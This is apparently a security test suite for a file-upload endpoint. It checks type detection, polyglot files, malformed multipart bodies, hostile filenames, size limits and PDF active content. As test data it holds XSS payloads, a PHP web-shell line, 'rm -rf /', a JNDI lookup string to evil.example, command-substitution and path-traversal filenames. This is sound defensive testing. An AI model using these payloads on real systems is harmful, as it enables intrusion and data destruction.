import assert from "node:assert/strict";
import { once } from "node:events";
import { after, before, describe, test } from "node:test";
import { setTimeout as pause } from "node:timers/promises";
import { makeIndication } from "../playground/indication.ts";
import { type Belongings, boundary, uploadOf } from "./operations.ts";
import { type Person, person, settle } from "./people.ts";
import { type Attempt, bearer, jsonBody, type Reply, type Site, startSite } from "./site.ts";
import { dial } from "./wire.ts";

/*
 * Uploads: ASVS 5.0 5.2.1 to 5.3.2, OWASP's unrestricted file upload, busboy's, formidable's and file-type's
 * advisories. What is refused leaves no whole file at the vendor's side.
 */

const jpeg = "\xff\xd8\xff\xe0\x00\x10JFIF\x00";
const png = "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR";
const pdf = "%PDF-1.7\n";
const zipEnd = `PK\x05\x06${"\0".repeat(18)}`;
const filler = "x".repeat(2_000);

const taken: [what: string, file: string][] = [
  ["a PDF", `${pdf}1 0 obj`],
  ["a JPEG", `${jpeg}${filler}`],
  ["a PNG", `${png}${filler}`],
  ["a PDF of nine bytes", pdf],
  ["a PDF behind a blank", ` ${pdf}`],
  ["a PDF behind a byte order mark", `\xef\xbb\xbf${pdf}`],
  ["a PDF in a printer's job", `\x1b%-12345X@PJL ENTER LANGUAGE=PDF\r\n${pdf}`],
  ["a PDF with a tag in its title", `${pdf}<< /Title (The <svg> tag) >>`],
];

const refusedKinds: [what: string, file: string, status?: number][] = [
  ["nothing", "", 422],
  ["a page", "<!doctype html><script>alert(1)</script>"],
  ["a drawing", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
  ["a program for Windows", `MZ\x90\0${filler}`],
  ["a program for Linux", `\x7fELF\x02${filler}`],
  ["a program for macOS", `\xcf\xfa\xed\xfe${filler}`],
  ["a script", "#!/bin/sh\nrm -rf /"],
  ["an archive", `PK\x03\x04${filler}${zipEnd}`],
  ["another archive", `Rar!\x1a\x07\x01\0${filler}`],
  ["a packed file", `\x1f\x8b\x08${filler}`],
  ["an office document of old", `\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${filler}`],
  ["a GIF", `GIF89a${filler}`],
  ["a GIF that is a Java program", `GIF89a${filler}${zipEnd}`],
  ["a WebP", `RIFF\x24\0\0\0WEBPVP8 ${filler}`],
  ["a TIFF", `II*\0${filler}`],
  [
    "a film whose size never ends",
    `\x30\x26\xb2\x75\x8e\x66\xcf\x11\xa6\xd9\0\xaa\0\x62\xce\x6c${"\0".repeat(39)}`,
  ],
  ["PostScript", "%!PS-Adobe-3.0\n"],
  ["a PDF behind a program", `MZ\x90\0\n${pdf}`],
  ["a PDF behind a GIF", `GIF89a${pdf}`],
  ["a PDF behind a script", `#!/bin/sh\n${pdf}`],
  ["a PDF behind an archive's first entry", `PK\x03\x04\x14\0${pdf}`],
  ["a PDF that begins beyond the first kilobyte", `${" ".repeat(1_020)}${pdf}`],
  ["a PDF in lower case", "%pdf-1.7\n"],
  ["text", "Take this as a PDF, please."],
  ["NULs", "\0".repeat(100)],
  ["a PDF that is a page too", `${pdf}<html><script>alert(1)</script>`],
  ["a JPEG that is a page too", `${jpeg}<html><body onload=alert(1)>`],
  ["a JPEG that runs on a server", `${jpeg}<?php system($_GET[0]);`],
  ["a JPEG that is a PDF too", `${jpeg}${pdf}`],
  ["a PNG that is a drawing too", `${png}<svg onload=alert(1)>`],
  ["a PNG that is a PDF too", `${png}${pdf}`],
  ["a PDF that is an archive too", `${pdf}${filler}${zipEnd}`],
  ["a JPEG that is a Java program too", `${jpeg}${filler}${zipEnd}`],
  ["a PNG that is an archive too", `${png}${"x".repeat(200_000)}${zipEnd}`],
];

const active: [what: string, file: string][] = [
  ["script", `${pdf}<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>`],
  ["script under another spelling", `${pdf}<< /S /J#61v#61Script >>`],
  ["a program that it starts", `${pdf}<< /S /Launch /F (calc.exe) >>`],
  ["an embedded player", `${pdf}<< /Subtype /RichMedia >>`],
  ["encryption", `${pdf}trailer << /Encrypt 4 0 R >>`],
  ["script far behind", `${pdf}${"x".repeat(300_000)}<< /S /JavaScript >>`],
];

const part = (disposition: string, content: string, more = "") =>
  `--${boundary}\r\nContent-Disposition: form-data; ${disposition}\r\n${more}\r\n${content}\r\n`;
const end = `--${boundary}--\r\n`;
const fileType = part('name="file_type"', "MEDICAL_INDICATION");
const file = part('name="file"; filename="a.pdf"', pdf, "Content-Type: application/pdf\r\n");

const malformed: [what: string, body: string, type?: string][] = [
  ["no boundary", fileType + file + end, "multipart/form-data"],
  ["an empty boundary", fileType + file + end, 'multipart/form-data; boundary=""'],
  ["another boundary", fileType + file + end, "multipart/form-data; boundary=other"],
  ["a boundary beyond measure", fileType + file + end, `multipart/form-data; boundary=${"b".repeat(5_000)}`],
  ["no end", fileType + file],
  ["nothing", ""],
  ["no file", fileType + end],
  ["no type", file + end],
  ["two files", fileType + file + file + end],
  ["two types", fileType + fileType + file + end],
  ["a field that is not expected", fileType + part('name="admin"', "true") + file + end],
  ["a file under another name", fileType + file.replace('name="file"', 'name="document"') + end],
  ["a file in a list", fileType + file.replace('name="file"', 'name="file[]"') + end],
  ["nested names", fileType + file.replace('name="file"', 'name="file[a][b][c]"') + end],
  ["the name __proto__", fileType + part('name="__proto__"', "x") + file + end],
  ["a type beyond measure", part('name="file_type"', "X".repeat(300)) + file + end],
  ["a type with a line break", part('name="file_type"', "A\r\nB") + file + end],
  ["a type that leads elsewhere", part('name="file_type"', "../../etc") + file + end],
  ["a part without a name", fileType + part("", "x") + file + end],
  ["10,000 parts", fileType + part('name="x"', "y").repeat(10_000) + file + end],
  [
    "a part within a part",
    fileType +
      part(
        'name="file"; filename="a"',
        `--inner\r\n\r\n${pdf}\r\n--inner--`,
        "Content-Type: multipart/mixed; boundary=inner\r\n",
      ) +
      end,
  ],
];

/** Parts that mean nothing to the parser: they are dropped, and the file goes on without them. */
const dropped: [what: string, body: string][] = [
  ["a part without headers", `${fileType}--${boundary}\r\n\r\nx\r\n${file}${end}`],
  [
    "headers of a part beyond measure",
    fileType + part('name="file"; filename="a.pdf"', pdf, `X: ${"y".repeat(20_000)}\r\n`) + end,
  ],
];

const names = [
  "../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "a.pdf\r\nX-Injected: yes",
  'a.pdf"; name="file_type',
  "a\0.pdf",
  "a.pdf.exe",
  ".htaccess",
  "con.pdf",
  "\u202efdp.exe",
  "n".repeat(8_000),
  "\x24{jndi:ldap://evil.example/a}",
  "<script>alert(1)</script>.pdf",
  "$(reboot).pdf",
  "",
];

describe("uploads", () => {
  let site: Site;
  let owner: Person;
  let things: Belongings;
  before(async () => {
    site = await startSite({ bff: { MAX_UPLOAD_BYTES: "500000" } });
    owner = person(site, await site.token({ subject: "ana" }));
    things = await settle(owner);
  });
  after(() => site?.stop());

  const path = () => `/arc/v1/authorization-requests/${things.request}/upload/files`;
  const held = () => site.stack.sandbox.state.requests.get(things.request)?.files ?? [];
  const send = (attempt: Attempt) => owner.send({ ...attempt, path: path() });
  const multipart = (body: string, type = `multipart/form-data; boundary=${boundary}`): Attempt => ({
    method: "POST",
    path: "",
    headers: { "content-type": type },
    body: Buffer.from(body, "latin1"),
  });
  const base64 = (content: string, more: Record<string, unknown> = {}): Attempt => ({
    method: "POST",
    path: "",
    ...jsonBody({
      file_type: "MEDICAL_INDICATION",
      content_base64: Buffer.from(content, "latin1").toString("base64"),
      ...more,
    }),
  });

  async function refused(reply: Promise<Reply>, ...statuses: number[]): Promise<void> {
    const before = held().length;
    const { status, text, json } = await reply;
    assert.ok(statuses.includes(status), `${status}: ${text}`);
    assert.equal(typeof json().code, "string");
    assert.equal(held().length, before);
  }

  for (const [what, content] of taken) {
    test(`${what} is taken, whole, both ways`, async () => {
      for (const attempt of [uploadOf(content), base64(content)]) {
        const before = held().length;
        assert.equal((await send(attempt)).status, 204);
        assert.equal(held().length, before + 1);
      }
    });
  }

  for (const [what, content, status = 415] of refusedKinds) {
    test(`${what} is refused, whatever it says that it is`, async () => {
      for (const claimed of ["application/pdf", "image/png", "image/jpeg"]) {
        const body = uploadOf(content).body?.toString("latin1").replace("application/pdf", claimed) ?? "";
        await refused(send(multipart(body)), status);
      }
      await refused(send(base64(content, { mime_type: "application/pdf", file_name: "a.pdf" })), status, 422);
    });
  }

  for (const [what, body, type] of malformed) {
    test(`multipart with ${what} is refused`, async () => {
      await refused(send(multipart(body, type)), 400, 408, 413, 415, 422);
    });
  }

  for (const [what, body] of dropped) {
    test(`of multipart with ${what} the file alone goes on`, async () => {
      const before = held().length;
      assert.equal((await send(multipart(body))).status, 204);
      assert.equal(held().length, before + 1);
      assert.equal(held().at(-1)?.size, pdf.length);
    });
  }

  for (const name of names) {
    test(`the name ${JSON.stringify(name.slice(0, 40))} goes no further`, async () => {
      for (const disposition of [`filename="${name}"`, `filename*=UTF-8''${encodeURIComponent(name)}`]) {
        const body =
          fileType + part(`name="file"; ${disposition}`, pdf, "Content-Type: application/pdf\r\n") + end;
        const before = held().length;
        const { status } = await send(multipart(Buffer.from(body, "utf8").toString("latin1")));
        if (status === 204) {
          assert.equal(held().length, before + 1);
          assert.match(held().at(-1)?.name ?? "", /^upload-[0-9a-f-]{36}\.pdf$/);
        } else {
          assert.ok(status >= 400 && status < 500, `${status}`);
          assert.equal(held().length, before);
        }
      }
    });
  }

  const whole = (bytes: number) => uploadOf(pdf + "x".repeat(bytes - pdf.length));
  test("a file of just the size that is allowed is taken, and one of a byte more is not", async () => {
    assert.equal((await send(whole(500_000))).status, 204);
    await refused(send(whole(500_001)), 413);
    await refused(send(base64(pdf + "x".repeat(500_001 - pdf.length))), 413);
  });

  test("a file beyond measure is refused however it says its length", async () => {
    const { headers, ...rest } = whole(3_000_000);
    await refused(
      send({ ...rest, headers: { ...headers, "transfer-encoding": "chunked", "content-length": [] } }),
      413,
    );
  });

  for (const [what, length] of [
    ["longer", 50],
    ["shorter", -50],
  ] as const) {
    test(`a body that is said to be ${what} than it is leaves nothing`, async () => {
      const { headers, body } = whole(2_000);
      const before = held().length;
      const socket = await dial(site.port);
      socket.write(
        `POST ${path()} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${owner.token}\r\n` +
          `Content-Type: ${headers?.["content-type"]}\r\nContent-Length: ${Buffer.byteLength(body ?? "") + length}\r\n\r\n`,
      );
      socket.end(body ?? "");
      socket.on("error", () => {});
      socket.resume();
      await once(socket, "close");
      assert.equal(held().length, before);
    });
  }

  test("whoever leaves in the middle leaves nothing behind, neither here nor at the vendor", async () => {
    const { headers, body } = whole(400_000);
    const bytes = Buffer.from(body ?? "");
    const before = held().length;
    for (const share of [0.1, 0.5, 0.99]) {
      const socket = await dial(site.port);
      socket.on("error", () => {});
      socket.write(
        `POST ${path()} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${owner.token}\r\n` +
          `Content-Type: ${headers?.["content-type"]}\r\nContent-Length: ${bytes.length}\r\n\r\n`,
      );
      socket.write(bytes.subarray(0, bytes.length * share), () => socket.destroy());
      await once(socket, "close");
    }
    const open = () =>
      site.stack.sandbox.state.calls
        .of("attachAuthorizationIndication")
        .filter((call) => call.status === undefined && !call.aborted && call.fault === undefined);
    for (let tries = 0; open().length > 0 && tries < 1_200; tries += 1) await pause(50);
    assert.equal(open().length, 0);
    const begun = site.stack.sandbox.state.calls.of("attachAuthorizationIndication");
    assert.ok(begun.filter((call) => call.aborted).length > 0);
    assert.equal(held().length, before);
  });

  test("uploads that break off one after the other, of whatever number, keep nobody from theirs", async () => {
    const cutShort = fileType + file.replace(pdf, pdf + "x".repeat(100_000));
    for (let tries = 0; tries < 25; tries += 1) await refused(send(multipart(cutShort)), 400);
    assert.equal((await send(whole(2_000))).status, 204);
  });

  test("a small bad file under the key of a good one is refused, and the key still tells of the good one", async () => {
    const key = "once-good";
    const keyed = (content: string) => {
      const { headers, ...rest } = uploadOf(content);
      return { ...rest, headers: { ...headers, "idempotency-key": key } };
    };
    assert.equal((await send(keyed(pdf))).status, 204);
    await refused(send(keyed(pdf + zipEnd)), 415);
    await refused(send(keyed(`${pdf}another`)), 422);
    assert.equal((await send(keyed(pdf))).status, 204);
  });

  for (const [what, content] of active) {
    test(`a PDF with ${what} is taken where the operator lets it, and told of`, async () => {
      assert.equal((await send(uploadOf(content))).status, 204);
      const { text } = await site.send({ path: "/metrics", headers: bearer("canary-metrics-77aa88bb99cc") });
      assert.match(text, /preauth_events_total\{name="document_active_content"\} [1-9]/);
    });
  }

  test("an ordinary document is not told of", async () => {
    assert.equal((await send(uploadOf(makeIndication().toString("latin1")))).status, 204);
    const log = (await site.stack.wholeLog()).split("\n").map((line) => JSON.parse(line));
    const uploads = log.filter((line) => line.route?.endsWith("/upload/files"));
    assert.equal(uploads.at(-1)?.document, undefined);
    assert.deepEqual(
      uploads.filter((line) => line.document !== undefined).map((line) => line.document),
      ["script", "script", "launch", "media", "encrypted", "script"],
    );
    assert.equal(log.filter((line) => line["event.action"] === "upload_flagged").length, 6);
    assert.ok(log.some((line) => line["event.action"] === "upload_refused"));
    assert.deepEqual(site.leaked(), []);
    assert.deepEqual(await site.spilt(), []);
  });
});

describe("uploads where the operator refuses active content", () => {
  let site: Site;
  let owner: Person;
  let things: Belongings;
  before(async () => {
    site = await startSite({ bff: { PDF_ACTIVE_CONTENT: "refuse" } });
    owner = person(site, await site.token({ subject: "ana" }));
    things = await settle(owner);
  });
  after(() => site?.stop());

  const send = (content: string) =>
    owner.send({
      ...uploadOf(content),
      path: `/arc/v1/authorization-requests/${things.request}/upload/files`,
    });
  const held = () => site.stack.sandbox.state.requests.get(things.request)?.files.length;

  for (const [what, content] of active) {
    test(`a PDF with ${what} leaves nothing at the vendor`, async () => {
      const reply = await send(content);
      assert.equal(reply.status, 422);
      assert.equal(reply.json().code, "file_unsafe");
      assert.equal(held(), 0);
    });
  }

  test("an ordinary document is taken", async () => {
    assert.equal((await send(makeIndication().toString("latin1"))).status, 204);
    assert.equal(held(), 1);
  });
});
